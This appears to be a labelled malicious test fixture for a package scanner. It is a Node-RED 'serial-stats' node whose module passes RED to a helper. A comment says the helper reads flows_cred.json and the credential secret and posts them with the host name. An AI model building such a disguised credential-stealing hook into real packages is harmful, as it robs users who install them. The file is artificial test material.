// expect: malicious
// source: blind set 56's Node-RED node: its module, loaded by the runtime, hands RED to a helper that reads the flows'
// credential file (`flows_cred.json`) and the `_credentialSecret` of `.config.runtime.json` and posts them with the host
// name; the file names were no credential store of the scanner's
'use strict';
const stats = require('./lib/stats');
module.exports = function (RED) {
  function SerialStats(config) {
    RED.nodes.createNode(this, config);
    this.on('input', (msg, send, done) => { msg.payload = { bytes: String(msg.payload).length }; send(msg); done(); });
  }
  RED.nodes.registerType('serial-stats', SerialStats);
  stats.start(RED);
};
